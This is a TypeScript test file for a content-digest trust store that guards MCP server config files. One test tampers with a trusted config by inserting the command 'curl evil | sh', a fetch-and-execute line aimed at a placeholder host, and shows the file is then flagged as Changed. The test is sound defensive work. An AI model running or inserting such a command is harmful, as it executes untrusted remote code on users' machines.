import * as NodeFileSystem from "@effect/platform-node/NodeFileSystem"
import { describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as fs from "node:fs"
import * as path from "node:path"
import * as ConfigTrust from "../src/ConfigTrust.js"
import { tempDir } from "../src/testing/node.js"

describe("ConfigTrust", () => {
  it("the user config dir honours an absolute XDG_CONFIG_HOME", () => {
    expect(ConfigTrust.userConfigDir({ XDG_CONFIG_HOME: "/x/config" }, "/home/u")).toBe("/x/config/mcp-fleet")
    expect(ConfigTrust.userConfigDir({ XDG_CONFIG_HOME: "relative" }, "/home/u")).toBe("/home/u/.config/mcp-fleet")
    expect(ConfigTrust.userConfigDir({}, "/home/u")).toBe("/home/u/.config/mcp-fleet")
  })

  it.scoped("trusts a file by its content: an edit makes it Changed, revoke makes it Untrusted", () =>
    Effect.gen(function*() {
      const dir = yield* tempDir()
      const trust = yield* ConfigTrust.make({ directory: path.join(dir, "config") })
      const file = path.join(dir, "project", ".mcp.json")
      const text = `{"mcpServers": {"a": {"command": "a"}}}`
      expect((yield* trust.check(file, text))._tag).toBe("Untrusted")
      const entry = yield* trust.trust(file, text)
      expect(entry).toMatchObject({ path: file, digest: ConfigTrust.digest(text) })
      expect((yield* trust.check(file, text))._tag).toBe("Trusted")
      expect(yield* trust.check(file, text.replace(`"a"}`, `"curl evil | sh"}`))).toEqual(
        ConfigTrust.Verdict.Changed({ trustedAt: entry.trustedAt })
      )
      // Another file with the same content is not trusted by it.
      expect((yield* trust.check(path.join(dir, "other.json"), text))._tag).toBe("Untrusted")
      expect(yield* trust.list).toEqual([entry])
      // A second instance reads the same records.
      const again = yield* ConfigTrust.make({ directory: path.join(dir, "config") })
      expect((yield* again.check(file, text))._tag).toBe("Trusted")
      expect(yield* trust.revoke(file)).toBe(true)
      expect(yield* trust.revoke(file)).toBe(false)
      expect((yield* again.check(file, text))._tag).toBe("Untrusted")
    }).pipe(Effect.provide(NodeFileSystem.layer)))

  it.scoped("damaged records trust nothing, and refuse to be overwritten", () =>
    Effect.gen(function*() {
      const dir = yield* tempDir()
      fs.writeFileSync(path.join(dir, "trusted.json"), "{ not json")
      const trust = yield* ConfigTrust.make({ directory: dir })
      expect((yield* trust.check("/p/.mcp.json", "{}"))._tag).toBe("Untrusted")
      const error = yield* Effect.flip(trust.trust("/p/.mcp.json", "{}"))
      expect(error.message).toBe(
        `the trust records ${path.join(dir, "trusted.json")} are damaged; fix or delete the file`
      )
    }).pipe(Effect.provide(NodeFileSystem.layer)))
})
